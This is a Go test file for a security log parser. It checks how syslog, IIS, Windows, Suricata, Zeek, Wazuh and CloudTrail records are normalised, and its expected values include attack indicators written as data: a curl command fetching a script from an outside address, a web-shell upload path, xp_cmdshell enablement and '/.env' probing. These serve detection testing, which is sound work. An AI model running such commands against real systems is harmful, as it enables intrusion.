package parse

import (
	"path/filepath"
	"testing"
	"time"
)

func TestShapes(t *testing.T) {
	now = func() time.Time { return time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC) }
	defer func() { now = time.Now }()
	type check struct {
		event  int // index of the event
		fields map[string]string
		host   string
		time   string // RFC 3339, "" to skip
		prod   string
		svc    string
		cat    string
		absent []string // fields the event must not have
	}
	tests := []struct {
		file    string
		events  int
		skipped int64
		checks  []check
	}{
		{"syslog.log", 14, 1, []check{
			{event: 8, fields: map[string]string{"cisco.facility": "PARSER", "cisco.mnemonic": "CFGLOG_LOGGEDCMD"}, prod: "cisco", svc: "aaa"},
			{event: 12, fields: map[string]string{"cisco.facility": "SYS", "cisco.mnemonic": "CONFIG_I"}, prod: "cisco", svc: "aaa"},
			{event: 13, fields: map[string]string{"action": "Edit", "cfgpath": "system.admin", "cfgattr": "password[*]", "user": "operator", "user.name": "operator", "cfgtid": "1", "message": "Edit system.admin operator"},
				host: "FGT-1", time: "2024-03-01T10:00:02Z", prod: "fortigate", svc: "event"},
			{event: 11, fields: map[string]string{"EventID": "1", "Provider_Name": "Linux-Sysmon", "Channel": "Linux-Sysmon/Operational", "Image": "/usr/bin/curl",
				"CommandLine": "curl -s http://198.51.100.9/x.sh", "User": "root", "process.name": "sysmon"}, host: "lx-1", time: "2024-03-01T10:00:00.123456Z", prod: "linux"},
			{event: 9, fields: map[string]string{"type": "EXECVE", "a0": "curl", "a1": "-o", "a2": "/tmp/x sh\n", "argc": "3", "event.sequence": "4242"},
				time: "2023-11-14T22:13:20.123Z", prod: "linux", svc: "auditd"},
			{event: 10, fields: map[string]string{"type": "USER_LOGIN", "acct": "operator", "exe": "/usr/sbin/sshd", "addr": "192.0.2.44", "res": "failed", "auid": "1000"}},
			{event: 0, fields: map[string]string{"log.syslog.facility.name": "auth", "log.syslog.severity.code": "2", "process.name": "su", "process.pid": "230", "message": "'su root' failed for operator on /dev/pts/8",
				"event.original": "<34>Oct 11 22:14:15 mymachine su[230]: 'su root' failed for operator on /dev/pts/8"},
				host: "mymachine", time: "2023-10-11T22:14:15Z", prod: "linux", svc: "su"}, // October is months ahead of "now": last year,
			{event: 1, fields: map[string]string{"process.name": "sshd", "message": "Accepted publickey for deploy from 192.0.2.10 port 50022 ssh2"}, host: "web-1", time: "2024-02-03T04:05:06Z", prod: "linux", svc: "sshd"},
			{event: 2, fields: map[string]string{"log.syslog.version": "1", "process.name": "evntslog", "process.pid": "42", "log.syslog.msgid": "ID47",
				"log.syslog.structured_data.exampleSDID@32473.eventID": "1011", "log.syslog.structured_data.other@1.q": `a"b`, "message": "An application event"},
				host: "host-b.example.test", time: "2024-03-04T05:06:07.123Z"},
			{event: 3, fields: map[string]string{"message": ""}},
			{event: 4, fields: map[string]string{"process.name": "kernel", "message": "IN=eth0 OUT= SRC=198.51.100.7"}, host: "fw-1", time: "2024-05-06T05:08:09.5Z"},
			{event: 5, fields: map[string]string{"deviceVendor": "Example Vendor", "deviceEventClassId": "100", "severity": "7", "src": "192.0.2.1", "source.ip": "192.0.2.1",
				"destination.port": "445", "act": "blocked", "msg": `path C:\temp\a=b done`}, host: "gw-1", time: "2023-11-14T22:13:20Z", prod: "example_vendor", svc: "example_fw"},
			{event: 6, fields: map[string]string{"deviceVendor": "ExampleCo", "eventId": "4001", "source.ip": "192.0.2.5", "srcPort": "1234", "usrName": "operator"}, prod: "exampleco", svc: "ids"},
			{event: 7, fields: map[string]string{"url.original": "http://example.test/a?b=c", "action": "allowed", "eventId": "GET"}},
			{event: 8, fields: map[string]string{"message": "172.16.5.10 6705: Feb 17 13:40:03.673: %PARSER-5-CFGLOG_LOGGEDCMD: User:operator  logged command:no access-session port-control"}},
		}},
		{"iis.log", 2, 1, []check{
			{event: 0, fields: map[string]string{"cs-method": "GET", "cs-uri-stem": "/erp/conn.aspx", "cs-uri-query": "proxy&port=3389&ip=127.0.0.1",
				"c-uri": "/erp/conn.aspx?proxy&port=3389&ip=127.0.0.1", "c-uri-extension": "aspx", "c-useragent": "Mozilla/5.0 (Windows NT 10.0)",
				"sc-status": "200", "c-ip": "198.51.100.91", "source.ip": "198.51.100.91"}, time: "2024-03-01T10:00:01Z", svc: "iis", cat: "webserver"},
			{event: 1, fields: map[string]string{"cs-method": "POST", "cs-username": "operator", "cs-referrer": "https://example.test/", "c-uri": "/upload/shell.aspx"}},
		}},
		{"access.log", 3, 0, []check{
			{event: 0, fields: map[string]string{"c-ip": "198.51.100.92", "cs-method": "GET", "c-uri": "/manager/html?org.apache.catalina.filters.CSRF_NONCE=A0",
				"cs-uri-query": "org.apache.catalina.filters.CSRF_NONCE=A0", "sc-status": "401", "c-useragent": "Mozilla/5.0 (X11; Linux x86_64)",
				"http.request.method": "GET"}, time: "2018-07-11T05:41:28Z", cat: "webserver"},
			{event: 1, fields: map[string]string{"cs-username": "admin", "c-uri-extension": "jsp", "sc-bytes": "11"}},
			{event: 2, fields: map[string]string{"process.name": "nginx", "c-uri": "/.env", "sc-status": "404", "c-useragent": "python-requests/2.31"}, host: "web-4", cat: "webserver"},
		}},
		{"winlogbeat.json", 2, 0, []check{
			{event: 0, fields: map[string]string{"EventID": "4688", "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing", "Computer": "host-c.example.test",
				"EventRecordID": "991", "ProcessID": "4", "ThreadID": "8", "Keywords": "Audit Success", "CommandLine": "whoami /all", "ProcessId": "0x1f0", "Message": "A new process has been created.", "Level": "information"},
				host: "host-c.example.test", time: "2024-01-02T03:04:05.678Z", prod: "windows"},
			{event: 1, fields: map[string]string{"EventID": "3", "ProcessID": "77", "System_ProcessID": "2000", "DestinationPort": "443"}},
		}},
		{"win_export.xml", 3, 0, []check{
			{event: 0, fields: map[string]string{"EventID": "4688", "Provider_Name": "Microsoft-Windows-Security-Auditing", "Channel": "Security", "EventRecordID": "501",
				"ProcessID": "4", "CommandLine": "whoami & echo <x>", "TargetLogonId": "0x3e7", "Message": "A new process has been created.", "Keywords": "0x8020000000000000"},
				host: "host-f.example.test", time: "2024-01-02T03:04:05.1234567Z", prod: "windows"},
			{event: 1, fields: map[string]string{"EventID": "1102", "SubjectUserName": "operator", "SubjectLogonId": "0x1a2b3c"}},
			{event: 2, fields: map[string]string{"EventID": "15457", "Qualifiers": "16384", "Data": "xp_cmdshell\n0\n1", "Data1": "xp_cmdshell", "Data3": "1", "Binary": "DEAD"}, host: "sql-1.example.test"},
		}},
		{"win_xmltodict.json", 1, 0, []check{
			{event: 0, fields: map[string]string{"EventID": "4624", "Provider_Name": "Microsoft-Windows-Security-Auditing", "Qualifiers": "", "ProcessID": "640",
				"TargetUserName": "operator", "LogonType": "3", "IpAddress": "192.0.2.21", "WorkstationName": "", "Channel": "Security"},
				host: "host-e.example.test", time: "2024-01-02T03:04:05.123456Z", prod: "windows"},
		}},
		{"nxlog.json", 1, 0, []check{
			{event: 0, fields: map[string]string{"EventID": "4624", "Provider_Name": "Microsoft-Windows-Security-Auditing", "Computer": "host-d.example.test", "Channel": "Security",
				"EventRecordID": "12345", "ProcessID": "640", "TargetUserName": "operator", "LogonType": "3", "Message": "An account was successfully logged on."},
				host: "host-d.example.test", time: "2024-01-02T03:04:05Z", prod: "windows"},
		}},
		{"eve.json", 3, 0, []check{
			{event: 0, fields: map[string]string{"source.ip": "192.0.2.30", "source.port": "51000", "destination.ip": "198.51.100.40", "destination.port": "80", "network.transport": "tcp",
				"rule.name": "GPL ATTACK_RESPONSE id check returned root", "rule.id": "2100498", "alert.severity": "2", "url.original": "/index.html", "http.request.method": "GET", "url.domain": "example.test"},
				time: "2024-02-03T04:05:06.123456Z", prod: "suricata", svc: "alert"},
			{event: 1, fields: map[string]string{"dns.question.name": "bad.example.test", "dns.question.type": "A", "network.transport": "udp"}, prod: "suricata", svc: "dns", cat: "dns"},
			{event: 2, fields: map[string]string{"tls.server.name": "example.test", "tls.client.ja3": "abc"}, svc: "tls"},
		}},
		{"zeek_dns.log", 2, 0, []check{
			{event: 0, fields: map[string]string{"id.orig_h": "192.0.2.33", "source.ip": "192.0.2.33", "destination.port": "53", "query": "bad.example.test", "dns.question.name": "bad.example.test",
				"answers": "192.0.2.99", "network.transport": "udp"}, time: "2024-02-03T04:05:07.123456Z", prod: "zeek", svc: "dns", cat: "dns"},
			{event: 1, fields: map[string]string{"method": "POST", "http.request.method": "POST", "url.original": "/upload.php", "user_agent.original": "python-requests/2.31"}, prod: "zeek", svc: "http"},
		}},
		{"wazuh_alerts.json", 2, 0, []check{
			{event: 0, fields: map[string]string{"rule.id": "5716", "rule.level": "5", "agent.name": "web-2", "source.ip": "198.51.100.66", "rule.mitre.id": "T1110.001",
				"message": "Mar  4 05:06:07 web-2 sshd[999]: Failed password for invalid user test from 198.51.100.66 port 40000 ssh2"}, host: "web-2", time: "2024-03-04T05:06:07.89Z", svc: "sshd"},
			{event: 1, fields: map[string]string{"EventID": "1", "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": `C:\Windows\System32\cmd.exe`, "CommandLine": "cmd.exe /c whoami", "ParentImage": `C:\Windows\explorer.exe`},
				host: "ws-3.example.test", prod: "windows"},
		}},
		{"journal.json", 1, 0, []check{
			{event: 0, fields: map[string]string{"message": "operator : TTY=pts/0 ; PWD=/home/operator ; USER=root ; COMMAND=/usr/bin/id", "process.name": "sudo",
				"process.command_line": "sudo -u root id", "_COMM": "sudo", "host.hostname": "web-3"}, host: "web-3", time: "2024-02-03T04:05:07.123456Z", prod: "linux", svc: "sudo"},
		}},
		{"generic.jsonl", 3, 3, []check{ // line 2, [1,2,3], is three non-records
			{event: 2, fields: map[string]string{"eventName": "CreateAccessKey", "eventSource": "iam.amazonaws.com", "userIdentity.arn": "arn:aws:iam::111122223333:user/operator",
				"source.ip": "192.0.2.80", "user.name": "operator"}, time: "2024-05-06T07:08:09Z", prod: "aws", svc: "cloudtrail"},
			{event: 0, fields: map[string]string{"host.name": "app-1", "user.roles": "admin, ops", "items.1.id": "2", "ok": "true"}, host: "app-1", time: "2024-04-05T06:07:08Z",
				absent: []string{"empty"}}, // null is absent, not '' (Sigma)
			{event: 1, fields: map[string]string{"msg": "plain"}, time: "2024-04-05T06:07:08Z"},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			evs, st := readAll(t, filepath.Join("testdata", tt.file))
			if len(evs) != tt.events || st.Skipped != tt.skipped {
				for _, e := range evs {
					t.Logf("%+v", e)
				}
				t.Fatalf("%d events, %d skipped (%v); want %d, %d", len(evs), st.Skipped, st.Errors, tt.events, tt.skipped)
			}
			for _, c := range tt.checks {
				e := evs[c.event]
				for k, want := range c.fields {
					if got, ok := e.Get(k); !ok || got != want {
						t.Errorf("event %d: %s = %q (present %v), want %q; fields %v", c.event, k, got, ok, want, e.Fields)
					}
				}
				for _, k := range c.absent {
					if v, ok := e.Get(k); ok {
						t.Errorf("event %d: %s = %q, want it absent", c.event, k, v)
					}
				}
				if c.host != "" && e.Host != c.host {
					t.Errorf("event %d: host %q, want %q", c.event, e.Host, c.host)
				}
				if c.time != "" {
					want, _ := time.Parse(time.RFC3339Nano, c.time)
					if !e.Time.Equal(want) {
						t.Errorf("event %d: time %v, want %v", c.event, e.Time, want)
					}
				}
				if c.prod != "" && e.Product != c.prod || c.svc != "" && e.Service != c.svc || c.cat != "" && e.Category != c.cat {
					t.Errorf("event %d: logsource %q/%q/%q, want %q/%q/%q", c.event, e.Product, e.Service, e.Category, c.prod, c.svc, c.cat)
				}
			}
		})
	}
}

func TestParseAnyTime(t *testing.T) {
	tests := []struct {
		in   jsonValue
		want string
	}{
		{jsonValue{kind: jsonString, text: "2024-02-03T04:05:06.123456+0000"}, "2024-02-03T04:05:06.123456Z"},
		{jsonValue{kind: jsonString, text: "2024-02-03T06:05:06+02:00"}, "2024-02-03T04:05:06Z"},
		{jsonValue{kind: jsonString, text: "2024-02-03T04:05:06Z"}, "2024-02-03T04:05:06Z"},
		{jsonValue{kind: jsonString, text: "2024-02-03 04:05:06"}, "2024-02-03T04:05:06Z"},
		{jsonValue{kind: jsonString, text: "2024-02-03T04:05:06.5"}, "2024-02-03T04:05:06.5Z"},
		{jsonValue{kind: jsonString, text: "2024-02-03 04:05:06.25-0100"}, "2024-02-03T05:05:06.25Z"},
		{jsonValue{kind: jsonString, text: "1706933106.5"}, "2024-02-03T04:05:06.5Z"},
		{jsonValue{kind: jsonNumber, text: "1706933106500"}, "2024-02-03T04:05:06.5Z"},
		{jsonValue{kind: jsonString, text: "yesterday"}, ""},
		{jsonValue{kind: jsonString, text: "2024-02-03Tbroken!!!!"}, ""},
	}
	for _, tt := range tests {
		got := parseAnyTime(&tt.in)
		if tt.want == "" {
			if !got.IsZero() {
				t.Errorf("%q: %v, want zero", tt.in.text, got)
			}
			continue
		}
		want, _ := time.Parse(time.RFC3339Nano, tt.want)
		if !got.Equal(want) {
			t.Errorf("%q: %v, want %v", tt.in.text, got, want)
		}
	}
}

func TestZeekLogFromName(t *testing.T) {
	for in, want := range map[string]string{
		"/logs/zeek/smb_files.log":             "smb_files",
		"conn.00:00:00-01:00:00.log.gz":        "conn",
		`C:\cases\dns.log`:                     "dns",
		"/logs/app.log":                        "",
		"/logs/2024-03-01/notice.12:00:00.log": "notice",
	} {
		if got := zeekLogFromName(in); got != want {
			t.Errorf("zeekLogFromName(%q) = %q, want %q", in, got, want)
		}
	}
}
